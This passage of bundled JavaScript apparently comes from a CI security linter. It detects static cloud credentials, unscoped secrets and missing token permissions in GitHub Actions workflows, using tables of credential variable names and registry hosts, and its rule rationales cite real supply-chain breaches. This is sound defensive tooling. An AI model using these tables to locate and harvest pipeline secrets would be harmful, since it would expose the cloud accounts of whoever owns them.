                'GOOGLE_CREDENTIALS',
                'GOOGLE_APPLICATION_CREDENTIALS',
                'GOOGLE_APPLICATION_CREDENTIALS_JSON',
                'GOOGLE_CLOUD_KEYFILE_JSON',
                'GOOGLE_SERVICE_ACCOUNT_KEY',
                'GCLOUD_SERVICE_KEY',
                'GCLOUD_KEYFILE_JSON',
                'GCP_SA_KEY',
                'GCP_CREDENTIALS',
                'GCP_SERVICE_ACCOUNT_KEY',
            ],
        },
        { credential: 'azure', names: ['AZURE_CLIENT_SECRET', 'AZURE_CREDENTIALS', 'AZURE_CLIENT_CERTIFICATE_PASSWORD'] },
        { credential: 'azureOidcProvider', names: ['ARM_CLIENT_SECRET', 'ARM_CLIENT_CERTIFICATE', 'ARM_CLIENT_CERTIFICATE_PASSWORD'] },
        {
            credential: 'azureStorage',
            names: ['ARM_ACCESS_KEY', 'ARM_SAS_TOKEN', 'AZURE_STORAGE_KEY', 'AZURE_STORAGE_ACCOUNT_KEY', 'AZURE_STORAGE_CONNECTION_STRING'],
        },
        { credential: 'vault', names: ['VAULT_TOKEN', 'VAULT_SECRET_ID'] },
        { credential: 'infisical', names: ['INFISICAL_CLIENT_SECRET', 'INFISICAL_UNIVERSAL_AUTH_CLIENT_SECRET', 'INFISICAL_TOKEN'] },
        { credential: 'doppler', names: ['DOPPLER_TOKEN'] },
        { credential: 'akeyless', names: ['AKEYLESS_ACCESS_KEY'] },
        { credential: 'conjur', names: ['CONJUR_AUTHN_API_KEY'] },
        { credential: 'jfrog', names: ['JF_ACCESS_TOKEN', 'JF_PASSWORD', 'JFROG_CLI_ACCESS_TOKEN'] },
        { credential: 'pulumi', names: ['PULUMI_ACCESS_TOKEN'] },
        { credential: 'alibaba', names: ['ALICLOUD_SECRET_KEY', 'ALIBABA_CLOUD_ACCESS_KEY_SECRET', 'ALIYUN_ACCESS_KEY_SECRET'] },
        { credential: 'cosign', names: ['COSIGN_PRIVATE_KEY'] },
    ],
    registryLogins: [
        { action: 'docker/login-action', registry: 'registry', user: 'username', password: 'password' },
        { action: 'redhat-actions/podman-login', registry: 'registry', user: 'username', password: 'password' },
        { action: 'redhat-actions/push-to-registry', registry: 'registry', user: 'username', password: 'password' },
        { action: 'azure/docker-login', registry: 'login-server', user: 'username', password: 'password' },
    ],
};
const registryCredentials = [
    { host: /(?:^|\.)dkr[.-]ecr(?:-fips)?\.[^/]{0,100}(?:amazonaws\.com(?:\.cn)?|on\.aws)$|^public\.ecr\.aws$/i, credential: 'ecr' },
    { host: /(?:^|\.)azurecr\.(?:io|cn|us)$/i, credential: 'acr' },
    { host: /-docker\.pkg\.dev$|(?:^|\.)gcr\.io$/i, credential: 'gar' },
    { host: /(?:^|\.)jfrog\.io$/i, credential: 'jfrog' },
    { host: /^(?:ghcr\.io|docker\.pkg\.github\.com)$/i, credential: 'ghcr' },
];

;// CONCATENATED MODULE: ./build/src/rules/support/credential-inputs.js




function credentialInputs(step, scope) {
    const target = step.uses.target;
    if (target.kind !== 'repository')
        return [];
    const action = `${target.owner}/${target.name}`.toLowerCase();
    const listed = staticCredentialTables.inputs.filter((row) => row.actions.includes(action));
    const rows = listed.length > 0 ? listed : staticCredentialTables.anyActionInputs;
    const uses = rows.flatMap((row) => ofRow(row, step, scope));
    for (const login of staticCredentialTables.registryLogins) {
        if (login.action === action)
            uses.push(...ofLogin(login, step, scope));
    }
    return uses;
}
function ofRow(row, step, scope) {
    if (row.unless?.some(({ input, is }) => isGiven(step.with, input, is)) === true)
        return [];
    for (const input of row.inputs) {
        const given = scalarOf(step.with, input);
        if (given === undefined || isForeignStore(row.credential, [step.with, step.env, ...scope.env]))
            continue;
        const source = sourceOf(given.value, scope);
        if (isStatic(source))
            return [use(row.credential, input, nameOfSource(source), given, row.actions.length > 0)];
    }
    return [];
}
function use(credential, place, source, scalar, isListed) {
    const isOwnRegistry = credential === 'ghcr';
    return {
        how: 'input',
        credential,
        place,
        source,
        span: scalar.span,
        severity: isOwnRegistry ? 'medium' : 'high',
        confidence: isOwnRegistry || !isListed ? 'medium' : 'high',
    };
}
function isGiven(named, input, is) {
    const value = scalarOf(named, input)?.value.trim().toLowerCase() ?? '';
    return value !== '' && (is.length === 0 || is.includes(value));
}
function scalarOf(named, input) {
    const value = callers_valueOf(named, input);
    return value?.kind === 'scalar' ? value : undefined;
}
function isForeignStore(credential, layers) {
    if (credential !== 'aws')
        return false;
    return layers.some((layer) => layer.some(({ name, value }) => /endpoint/i.test(name.value) && value.kind === 'scalar' && value.value.trim() !== '' && !/amazonaws\.com/i.test(value.value)));
}
function ofLogin(login, step, scope) {
    const password = scalarOf(step.with, login.password);
    const registry = scalarOf(step.with, login.registry)?.value ?? '';
    const user = scalarOf(step.with, login.user)?.value ?? '';
    const single = password === undefined ? undefined : registryUse(registry, user, password.value, scope);
    const uses = single === undefined || password === undefined ? [] : [use(single.credential, login.password, single.source, password, true)];
    const list = scalarOf(step.with, 'registry-auth');
    if (list === undefined)
        return uses;
    const found = new Map();
    for (const entry of list.value.split(/^[ \t]*-[ \t]/m).slice(1)) {
        const value = (key) => new RegExp(`^[ \\t]*${key}:[ \\t]*["']?([^\\n]{0,1000}?)["']?[ \\t]*$`, 'm').exec(entry)?.[1] ?? '';
        const one = registryUse(value('registry'), value('username'), value('password'), scope);
        if (one !== undefined && !found.has(one.credential))
            found.set(one.credential, use(one.credential, 'registry-auth', one.source, list, true));
    }
    return [...uses, ...found.values()];
}
function imageCredential(container, scope) {
    const password = scalarOf(container.credentials, 'password');
    if (password === undefined || container.image === undefined)
        return undefined;
    const found = registryUse(container.image.value, '', password.value, scope);
    return found?.credential === 'ghcr' ? use('ghcr', 'credentials.password', found.source, password, true) : undefined;
}
function registryUse(registry, user, password, scope) {
    const source = sourceOf(password, scope);
    if (!isStatic(source))
        return undefined;
    const credential = user.trim().startsWith('_json_key') ? 'gar' : registryCredential(registry, scope);
    return credential === undefined ? undefined : { credential, source: nameOfSource(source) };
}
function registryCredential(registry, scope) {
    const resolved = sourceOf(registry, scope);
    const text = resolved.kind === 'literal' ? resolved.text : registry;
    const host = text
        .slice(0, 2000)
        .replace(/\$\{\{.*?\}\}/g, 'x')
        .trim()
        .replace(/^https?:\/\//i, '')
        .replace(/\/.*/s, '')
        .replace(/:\d+$/, '');
    return registryCredentials.find((item) => item.host.test(host))?.credential;
}

;// CONCATENATED MODULE: ./build/src/rules/support/credential-variables.js




const kinds = new Map(staticCredentialTables.variables.flatMap(({ credential, names }) => names.map((name) => [name, credential])));
function credentialOfVariable(name) {
    return kinds.get(name.toUpperCase());
}
function credentialVariables(env, scope) {
    const found = new Map();
    for (const { name, value } of env) {
        const credential = credentialOfVariable(name.value);
        if (credential === undefined || value.kind !== 'scalar' || found.has(credential))
            continue;
        if (isForeignStore(credential, [env, ...scope.env]))
            continue;
        const source = sourceOf(value.value, scope);
        if (isStaticVariable(name.value, source))
            found.set(credential, variableUse(credential, name.value, source, value.span));
    }
    return [...found.values()];
}
function isStaticVariable(name, source) {
    return isStatic(source) && !(name.toUpperCase() === 'GOOGLE_APPLICATION_CREDENTIALS' && source.kind === 'variable');
}
function variableUse(credential, name, source, span) {
    return { how: 'variable', credential, place: name, source: nameOfSource(source), span, severity: 'high', confidence: 'high' };
}

;// CONCATENATED MODULE: ./build/src/rules/support/credential-commands.js






const credential_commands_maxPipe = 20;
function credentialCommands(run, scope) {
    const commands = runCommands(run);
    const found = new Map();
    const isTestKey = signsForTests(commands);
    const add = (use) => {
        if (use !== undefined && !found.has(use.credential) && !(use.credential === 'cosign' && isTestKey))
            found.set(use.credential, use);
    };
    for (const [index, command] of commands.entries()) {
        const program = (0,shell/* programOf */.o)(command);
        const before = commands.slice(Math.max(0, index - credential_commands_maxPipe), index);
        if (program !== undefined)
            add(loginUse(command, program, before, scope));
        for (const [text, span] of assignmentsIn(command, run.value))
            add(assignmentUse(text, span, scope));
    }
    const isForeign = commands.some((command) => command.words.some((word) => /^--endpoint(?:-url)?(?:=|$)/.test(word.text)));
    return [...found.values()].filter((use) => use.credential !== 'aws' || !isForeign);
}
function signsForTests(commands) {
    const texts = commands
        .flatMap((command) => [...command.words, ...command.assignments.map(({ value }) => value)])
        .map((word) => word.text);
    return texts.some((text) => text === 'generate-key-pair' || /^(?:localhost|127\.0\.0\.1):\d/.test(text));
}
function loginUse(command, program, before, scope) {
    const registry = registryLogin(command, program, before, scope);
    const login = registry ?? loginOf(program);
    if (login === undefined)
        return undefined;
    const { credential, place, fallback } = login;
    const source = sourceOf(login.secret === '' ? (piped(command, before) ?? '') : login.secret, scope);
    const text = isStatic(source) ? nameOfSource(source) : fallback;
    if (text === undefined)
        return undefined;
    const isOwnRegistry = credential === 'ghcr';
    return {
        how: 'command',
        credential,
        place,
        source: text,
        span: command.span,
        severity: isOwnRegistry ? 'medium' : 'high',
        confidence: isOwnRegistry ? 'medium' : 'high',
    };
}
function loginOf({ name, arguments: words }) {
    const texts = words.map((word) => word.text);
    const [first, second, third] = texts;
    switch (name) {
        case 'aws':
            return first === 'configure' && second === 'set' && /(?:^|\.)aws_secret_access_key$/i.test(third ?? '')
                ? { credential: 'aws', place: 'aws configure set aws_secret_access_key', secret: texts[3] ?? '' }
                : undefined;
        case 'az':
            return azureLogin(texts, words);
        case 'gcloud':
            return texts.includes('activate-service-account')
                ? { credential: 'google', place: 'gcloud auth activate-service-account', secret: '', fallback: 'a key file' }
                : undefined;
        case 'vault':
            return vaultLogin(texts);
        case 'cosign':
            return cosignKey(texts, words);
        case 'infisical':
            return first === 'login'
                ? { credential: 'infisical', place: 'infisical login', secret: credential_commands_option(words, ['--client-secret']) ?? '' }
                : undefined;
        default:
            return undefined;
    }
}
function azureLogin(texts, words) {
    if (texts[0] === 'login' && !texts.some((text) => text.startsWith('--federated-token'))) {
        return { credential: 'azure', place: 'az login --service-principal', secret: credential_commands_option(words, ['-p', '--password']) ?? '' };
    }
    if (texts[0] === 'acr' && texts[1] === 'login')
        return { credential: 'acr', place: 'az acr login', secret: credential_commands_option(words, ['-p', '--password']) ?? '' };
    const key = credential_commands_option(words, ['--account-key', '--connection-string']);
    return texts[0] === 'storage' && key !== undefined ? { credential: 'azureStorage', place: 'az storage', secret: key } : undefined;
}
function vaultLogin(texts) {
    if (texts[0] === 'login') {
        const method = texts.map((text) => /^-{1,2}method=(.+)$/.exec(text)?.[1]).find((text) => text !== undefined) ?? 'token';
        if (/^(?:jwt|oidc|aws|gcp|azure|kubernetes|cf|oci)$/.test(method))
            return undefined;
        const values = texts.slice(1).filter((text) => !text.startsWith('-') && !/^(?:role|role_id|username|path)=/.test(text));
        return { credential: 'vault', place: 'vault login', secret: values.join(' ') };
    }
    const secret = texts.find((text) => /^(?:secret_id|password|token)=/.test(text));
    const isLogin = texts[0] === 'write' && texts.some((text) => /^auth\/[\w/-]+\/login(?:\/|$)/.test(text));
    return isLogin && secret !== undefined
        ? { credential: 'vault', place: 'vault write auth/.../login', secret: secret.slice(secret.indexOf('=') + 1) }
        : undefined;
}
function cosignKey(texts, words) {
    const verb = texts.find((text) => /^(?:sign|sign-blob|attest|attest-blob)$/.test(text));
    const key = credential_commands_option(words, ['--key']);
    if (verb === undefined || key === undefined)
        return undefined;
    if (/^(?:awskms|gcpkms|azurekms|hashivault|k8s|pkcs11|gitlab|github|tencentkms|alikms|yckms|sshagent):/i.test(key))
        return undefined;
    const place = `cosign ${verb} --key`;
    if (key.startsWith('env://'))
        return { credential: 'cosign', place, secret: `\${${key.slice(6)}}`, fallback: `the variable ${key.slice(6)}` };
    const isFile = /\.(?:key|pem)$/.test(key) || /^[</]|\$\(/.test(key);
    return { credential: 'cosign', place, secret: key, ...(isFile ? { fallback: 'a key file' } : {}) };
}
const registryClients = new Map([
    ['docker', ['login']],
    ['podman', ['login']],
    ['nerdctl', ['login']],
    ['buildah', ['login']],
    ['skopeo', ['login']],
    ['oras', ['login']],
    ['ko', ['login']],
    ['cosign', ['login']],
    ['crane', ['auth', 'login']],
    ['helm', ['registry', 'login']],
    ['regctl', ['registry', 'login']],
]);
const registryOptions = ['-u', '--username', '-p', '--password'];
function registryLogin(command, program, before, scope) {
    const verbs = registryClients.get(program.name);
    if (verbs === undefined || !verbs.every((verb, index) => program.arguments[index]?.text === verb))
        return undefined;
    const words = program.arguments.slice(verbs.length);
    const registry = words.find((word, index) => !word.text.startsWith('-') && !registryOptions.includes(words[index - 1]?.text ?? ''));
    const password = credential_commands_option(words, ['-p', '--password']) ?? piped(command, before);
    if (password === undefined)
        return undefined;
    const use = registryUse(registry?.text ?? '', credential_commands_option(words, ['-u', '--username']) ?? '', password, scope);
    return use === undefined ? undefined : { credential: use.credential, place: [program.name, ...verbs].join(' '), secret: password };
}
function piped(command, before) {
    const here = command.redirects.find((redirect) => redirect.operator === '<<<');
    if (here !== undefined)
        return here.target.text;
    const producer = before.findLast((item) => item.pipeline === command.pipeline && item.span.end <= command.span.start);
    const program = producer === undefined ? undefined : (0,shell/* programOf */.o)(producer);
    return program !== undefined && /^(?:echo|printf|write-output)$/i.test(program.name)
        ? program.arguments.map((word) => word.text).join(' ')
        : undefined;
}
function credential_commands_option(words, names) {
    for (const [index, { text }] of words.entries()) {
        if (names.includes(text))
            return words[index + 1]?.text;
        const name = names.find((item) => item.startsWith('--') && text.startsWith(`${item}=`));
        if (name !== undefined)
            return text.slice(name.length + 1);
    }
    return undefined;
}
function assignmentsIn(command, script) {
    const words = command.words.flatMap((word) => word.text.split('\n').map((text) => [text, word.span]));
    const assigned = command.assignments.map(({ name, value, span }) => [`${name}=${value.text}`, span]);
    const lines = command.redirects.flatMap(({ body, target }) => body === undefined
        ? []
        : script
            .slice(body.start, body.end)
            .split('\n')
            .map((text) => [text, target.span]));
    return [...assigned, ...words, ...lines];
}
function isHandedOn(value) {
    if (!value.includes('$') || /\$\(|`/.test(value))
        return false;
    const name = /^["']?\$(?:env:|\{env:|\{)?([A-Za-z_]\w{0,100})\}?["']?$/i.exec(value.trim())?.[1];
    return name === undefined || credentialOfVariable(name) === undefined;
}
function assignmentUse(text, span, scope) {
    const match = /^[ \t]*(?:export[ \t]+|-e|--env=)?(?:\$env:)?([A-Za-z_]\w{0,100})[ \t]*=[ \t]*/.exec(text);
    const name = match?.[1];
    const credential = name === undefined ? undefined : credentialOfVariable(name);
    if (match === null || name === undefined || credential === undefined)
        return undefined;
    const value = text.slice(match[0].length);
    if (!value.includes('${{') && !isHandedOn(value))
        return undefined;
    const source = sourceOf(value, scope);
    return isStaticVariable(name, source) ? variableUse(credential, name, source, span) : undefined;
}

;// CONCATENATED MODULE: ./build/src/rules/secret/static-credential.js












/* harmony default export */ const static_credential = (defineRule({
    meta: {
        id: 'secret/static-credential',
        title: 'A job logs in with a token that ends with the job wherever the other side accepts one',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: {
            recommended: { merge: 'warn', deploy: 'deny', posture: 'warn' },
            strict: { merge: 'deny', deploy: 'deny', posture: 'deny' },
        },
        unknown: { merge: 'warn', deploy: 'deny', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI7:2025' },
            { framework: 'OWASP-NHI', id: 'NHI4:2025' },
            { framework: 'OWASP-NHI', id: 'NHI6:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.AA-03' },
            { framework: 'NIST-CSF', id: 'PR.AA-04' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-2' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'A stored key works from anywhere until somebody revokes it, and whatever runs in the job can read it. In March 2025 ' +
            'tj-actions/changed-files (CVE-2025-30066) printed the memory of the runner into public logs; in March 2026 the moved tags of ' +
            'trivy-action (CVE-2026-33634) did the same to every pipeline that used them, and a rotation that had missed one credential was what ' +
            'let the attacker in. A token that the job gets by its own identity ends with the job, names the workflow that asked for it, and ' +
            'leaves nothing to rotate. Findings are limited to systems that offer such a form.',
        remediation: 'Replace the stored credential by the federated form that the finding names, then revoke the credential and delete its secret.',
        messages: {
            input: '`{place}` gives {credential} from {from} to `{action}`: it stays valid after this job ends. Instead, {federated}',
            variable: '`{place}` holds {credential} from {from}: it stays valid after this job ends. Instead, {federated}',
            command: '`{place}` takes {credential} from {from}: it stays valid after this job ends. Instead, {federated}',
        },
        examples: [
            {
                title: 'An access key for AWS',
                files: {
                    '.github/workflows/deploy.yml': `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@v5
        with:
          aws-region: eu-central-1
          aws-access-key-id: \${{ secrets.AWS_ACCESS_KEY_ID }}
          aws-secret-access-key: \${{ secrets.AWS_SECRET_ACCESS_KEY }}
`,
                },
                expect: [{ message: 'input', path: '.github/workflows/deploy.yml', line: 10 }],
            },
            {
                title: 'A role for AWS',
                files: {
                    '.github/workflows/deploy.yml': `on: push
permissions:
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@v5
        with:
          aws-region: eu-central-1
          role-to-assume: arn:aws:iam::123456789012:role/deploy
`,
                },
                expect: [],
            },
            {
                title: 'A client secret in the environment, and a login in a script',
                files: {
                    '.github/workflows/deploy.yml': `on: push
env:
  ARM_CLIENT_SECRET: \${{ secrets.ARM_CLIENT_SECRET }}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ secrets.GAR_KEY }}" | docker login -u _json_key --password-stdin europe-docker.pkg.dev
`,
                },
                expect: [
                    { message: 'variable', path: '.github/workflows/deploy.yml', line: 3 },
                    { message: 'command', path: '.github/workflows/deploy.yml', line: 8 },
                ],
            },
            {
                title: "Docker Hub knows no federated login, and a package registry takes the job's own token",
                files: {
                    '.github/workflows/push.yml': `on: push
jobs:
  push:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@v3
        with:
          username: acme
          password: \${{ secrets.DOCKERHUB_TOKEN }}
      - uses: docker/login-action@v3
        with:
          registry: ghcr.io
          username: acme
          password: \${{ github.token }}
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['place', 'source', 'action'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        const given = inputSources(workflows.items, actions.items);
        return [
            ...workflows.items.flatMap((workflow) => ofWorkflow(workflow, given)),
            ...actions.items.flatMap((action) => ofAction(action, given)),
        ];
    },
}));
function ofWorkflow(workflow, given) {
    const { file } = workflow;
    const scope = (env) => ({
        env,
        before: noSteps,
        input: (name) => given(file, name),
        isScript: false,
    });
    const uses = [
        ...credentialVariables(workflow.env, scope([])),
        ...workflow.jobs.filter((job) => job.kind === 'steps').flatMap((job) => static_credential_ofJob(job, workflow, scope)),
    ];
    return [...uses.map((use) => static_credential_violation(use, file, '')), ...stepSites(workflow).flatMap((site) => static_credential_ofStep(site, given))];
}
function static_credential_ofJob(job, workflow, scope) {
    const containers = [job.container, ...job.services].filter((container) => container !== undefined);
    const inner = scope([job.env, workflow.env]);
    return [
        ...credentialVariables(job.env, scope([workflow.env])),
        ...containers.flatMap(({ env }) => credentialVariables(env, inner)),
        ...containers.flatMap((container) => imageCredential(container, inner) ?? []),
    ];
}
function ofAction(action, given) {
    const scope = { env: [], before: noSteps, input: (name) => given(action.file, name), isScript: false };
    const uses = action.runs.kind === 'docker' ? credentialVariables(action.runs.env, scope) : [];
    return [...uses.map((use) => static_credential_violation(use, action.file, '')), ...actionSites(action).flatMap((site) => static_credential_ofStep(site, given))];
}
function static_credential_ofStep(site, given) {
    const { step, file, before } = site;
    const [own = [], ...outer] = site.env;
    const scope = { env: site.env, before, input: (name) => given(file, name), isScript: false };
    const uses = [];
    if (step.kind === 'uses')
        uses.push(...credentialInputs(step, scope).filter((use) => !isOuterVariable(file.text.slice(use.span.start, use.span.end), own)));
    if (step.kind === 'run') {
        const place = (0,span_in_file/* spanMapper */.g)(file.text, step.run);
        uses.push(...credentialCommands(step.run, { ...scope, isScript: true }).map((use) => ({ ...use, span: place(use.span) })));
    }
    uses.push(...credentialVariables(own, { ...scope, env: outer }));
    const first = uses.filter((use, index) => uses.findIndex((item) => item.credential === use.credential) === index);
    const action = step.kind === 'uses' ? nameOfUses(step.uses) : '';
    return first.map((use) => static_credential_violation(use, file, action));
}
function isOuterVariable(text, own) {
    const name = /^["']?\$\{\{\s*env\.(\w+)\s*\}\}["']?$/.exec(text)?.[1];
    return name !== undefined && credentialOfVariable(name) !== undefined && !own.some((item) => item.name.value === name);
}
function static_credential_violation(use, file, action) {
    const { name, federated } = staticCredentials[use.credential];
    return {
        kind: 'violation',
        message: use.how,
        data: { place: use.place, credential: name, source: use.source, from: shownSource(use.source), action, federated },
        location: (0,locate/* locate */.x5)(file, use.span),
        severity: use.severity,
        confidence: use.confidence,
    };
}

;// CONCATENATED MODULE: ./build/src/rules/secret/unscoped.js





const unscoped_maxRelated = 20;
/* harmony default export */ const unscoped = (defineRule({
    meta: {
        id: 'secret/unscoped',
        title: 'Secrets of a job that deploys or publishes belong to an environment',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'audit', strict: 'warn' },
        unknown: { merge: 'audit', deploy: 'audit', posture: 'audit' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI2:2025' },
            { framework: 'OWASP-NHI', id: 'NHI6:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.PS-01' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'NIST-800-207', id: 'T4' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PO.5.1' },
            { framework: 'SSDF', id: 'PW.9' },
        ],
        rationale: 'A secret of the repository is given to every job that asks, on every branch that somebody with write access can push. GhostAction ' +
            '(September 2025) took 3,325 secrets of 817 repositories with one pushed workflow that named them. A secret of an environment is given ' +
            'only to jobs that name the environment, after its reviewers agreed and on the branches that it admits.',
        remediation: 'Name an `environment` in the job, move its secrets there, delete them from the repository, and protect the environment by reviewers and branch rules.',
        messages: {
            unscoped: 'Job `{job}` runs `{by}` with {secrets} and names no `environment`: every branch can use these secrets. Add `environment:` and keep them there',
        },
        examples: [
            {
                title: 'A deploy with a secret of the repository',
                files: {
                    '.github/workflows/deploy.yml': `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: kubectl apply -f deploy/
        env:
          TOKEN: \${{ secrets.CLUSTER_TOKEN }}
`,
                },
                expect: [{ message: 'unscoped', path: '.github/workflows/deploy.yml', line: 3 }],
            },
            {
                title: 'A deploy with a secret of an environment',
                files: {
                    '.github/workflows/deploy.yml': `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    environment: production
    steps:
      - run: kubectl apply -f deploy/
        env:
          TOKEN: \${{ secrets.CLUSTER_TOKEN }}
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['job', 'secrets'],
    },
    needs: ['workflows'],
    evaluate({ workflows }) {
        return workflows.items.flatMap((workflow) => {
            const used = usedSecrets(workflow);
            return workflow.jobs.flatMap((job) => job.kind === 'steps' && !isScoped(job.environment)
                ? unscoped_ofJob(workflow, job, [...(used.get(undefined) ?? []), ...(used.get(job) ?? [])])
                : []);
        });
    },
}));
function usedSecrets(workflow) {
    const used = new Map();
    for (const { job, embedded } of expressionsIn(workflow)) {
        for (const name of secretNamesOf(embedded.expression)) {
            const list = used.get(job) ?? [];
            used.set(job, list);
            list.push({ name, span: embedded.span });
        }
    }
    return used;
}
function isScoped(environment) {
    return environment !== undefined && environment.name.value.trim() !== '';
}
function unscoped_ofJob(workflow, job, used) {
    if (used.length === 0)
        return [];
    const purpose = (0,workflow_purpose/* purposesOfJob */.Q)(job).find(({ kind }) => kind === 'deploy' || kind === 'publish');
    if (purpose === undefined)
        return [];
    const first = new Map(used.toReversed().map((item) => [item.name, item]));
    const names = [...first.keys()].toSorted();
    return [
        {
            kind: 'violation',
            message: 'unscoped',
            data: { job: job.id.value, by: purpose.by, secrets: unscoped_listed(names) },
            location: (0,locate/* locate */.x5)(workflow.file, job.id.span),
            related: [
                { location: (0,locate/* locate */.x5)(workflow.file, purpose.span), message: `\`${purpose.by}\` runs here` },
                ...[...first.values()]
                    .toSorted((a, b) => a.span.start - b.span.start)
                    .slice(0, unscoped_maxRelated)
                    .map(({ name, span }) => ({ location: (0,locate/* locate */.x5)(workflow.file, span), message: `\`${name}\` is used here` })),
            ],
        },
    ];
}
function unscoped_listed(names) {
    return names.map((name) => `\`${name}\``).join(', ');
}

;// CONCATENATED MODULE: ./build/src/rules/workflow/default-permissions.js


const default_permissions_maxRelated = 50;
/* harmony default export */ const default_permissions = (defineRule({
    meta: {
        id: 'workflow/default-permissions',
        title: 'Every job says what its token may do',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'audit', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI5:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-05' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-5' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: "Without `permissions` a job gets what the settings of the repository or organisation give to every token, and no reader of the file, and no reviewer of a change, knows what that is. Repositories made before February 2023 often give write access to everything. In August 2025 a token of that kind in a pull request workflow of Nx was enough to start its release with an attacker's code.",
        remediation: 'Write `permissions: {}` at the top of the workflow, and in each job only what its steps need, for example `permissions: {contents: read}` for a checkout.',
        messages: {
            unset: '{jobs} of this workflow {verb} no `permissions`: the token gets what the settings of the repository give. Give nothing at the top of the workflow, and each job what it needs',
        },
        examples: [
            {
                title: 'Neither the workflow nor a job says it',
                files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n' },
                expect: [{ message: 'unset', path: '.github/workflows/ci.yml', line: 3 }],
            },
            {
                title: 'The workflow gives nothing, and the job what it needs',
                files: {
                    '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: read\n    steps:\n      - run: make\n',
                },
                expect: [],
            },
            {
                title: 'A workflow that is only called gets what its caller gives',
                files: {
                    '.github/workflows/build.yml': 'on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n',
                },
                expect: [],
            },
        ],
        options: {},
        key: ['workflow'],
    },
    needs: ['workflows'],
    evaluate({ workflows }) {
        return workflows.items.filter((workflow) => !default_permissions_isOnlyCalled(workflow)).flatMap(judge);
    },
}));
function judge(workflow) {
    if (workflow.permissions.kind !== 'unset')
        return [];
    const [first, ...others] = workflow.jobs.filter((job) => job.permissions.kind === 'unset');
    if (first === undefined)
        return [];
    return [
        {
            kind: 'violation',
            message: 'unset',
            data: {
                workflow: workflow.file.path.slice(workflow.file.path.lastIndexOf('/') + 1),
                jobs: default_permissions_namesOf(first, others),
                verb: others.length === 0 ? 'has' : 'have',
            },
            location: (0,locate/* locate */.x5)(workflow.file, first.id.span),
            related: others
                .slice(0, default_permissions_maxRelated)
                .map((job) => ({ location: (0,locate/* locate */.x5)(workflow.file, job.id.span), message: 'This job has none either.' })),
        },
    ];
}
function default_permissions_namesOf(first, others) {
    if (others.length === 0)
        return `Job \`${first.id.value}\``;
    return `Job \`${first.id.value}\` and ${others.length} more`;
}
function default_permissions_isOnlyCalled(workflow) {
    return workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.event === 'workflow_call');
}

// EXTERNAL MODULE: ./build/src/core/location.js
var core_location = __webpack_require__(4582);
;// CONCATENATED MODULE: ./build/src/data/permission-keys.js
const both = ['read', 'write'];
const permissionKeys = {
    asOf: '2026-09-01',
    source: 'actions/languageservices, workflow-parser/src/workflow-v1.0.json',
    keys: {
        actions: { levels: both, risk: 'high', allows: 'start and cancel runs, and delete caches, logs and artifacts' },
        'artifact-metadata': { levels: both, risk: 'medium', allows: 'record where artifacts are stored and deployed' },
        attestations: { levels: both, risk: 'high', allows: 'attest artifacts in the name of the repository' },
        checks: { levels: both, risk: 'medium', allows: 'create check runs, and turn a required one green' },
        'code-quality': { levels: both, risk: 'medium', allows: 'upload and dismiss code quality results' },
        contents: { levels: both, risk: 'high', allows: 'push commits and tags, and publish releases' },
        'copilot-requests': { levels: ['write'], risk: 'medium', allows: 'make requests to Copilot at the cost of the organisation' },
        deployments: { levels: both, risk: 'high', allows: 'create deployments and set their status' },
        discussions: { levels: both, risk: 'medium', allows: 'edit, close and delete discussions' },
        drives: { levels: both, risk: 'medium', allows: 'write to the drives of the repository' },
        'id-token': { levels: ['write'], risk: 'high', allows: 'ask for an identity token, and with it for cloud credentials and signatures' },
        issues: { levels: both, risk: 'medium', allows: 'edit, comment and close issues' },
        models: { levels: ['read'], risk: 'medium', allows: 'use the GitHub Models inference API' },
        packages: { levels: both, risk: 'high', allows: 'publish and replace packages and images' },
        pages: { levels: both, risk: 'medium', allows: 'publish the site of the repository' },
        'pull-requests': { levels: both, risk: 'medium', allows: 'edit, label and approve pull requests' },
        'repository-projects': { levels: both, risk: 'medium', allows: 'edit classic projects' },
        'security-events': { levels: both, risk: 'high', allows: 'upload code scanning results and dismiss alerts' },
